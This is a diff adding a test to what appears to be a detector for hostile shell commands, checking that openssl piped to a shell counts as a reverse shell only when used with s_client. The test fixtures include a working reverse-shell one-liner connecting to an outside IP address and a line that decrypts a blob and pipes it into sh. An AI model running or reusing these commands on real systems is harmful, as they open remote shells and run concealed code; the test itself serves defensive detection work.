@@ -78,3 +78,15 @@ describe('downloads checked against a digest the script pins', () => {
     expect(await pinnedRuns('sha256sum "$tmp/tool.zip"\n')).toEqual([false]);
   });
 });
+
+describe('openssl in a pipeline with a shell', () => {
+  it('is a remote shell only as s_client, not when it decrypts local bytes', async () => {
+    const local = await factsOf(
+      'shell',
+      'printf %s "$blob" | openssl enc -d -aes-256-cbc -a -pass pass:k | sh\n',
+    );
+    expect(ofKind(local, 'reverse-shell')).toEqual([]);
+    const remote = await factsOf('shell', 'sh -i 2>&1 | openssl s_client -quiet -connect 45.133.1.3:443\n');
+    expect(ofKind(remote, 'reverse-shell').length).toBeGreaterThan(0);
+  });
+});
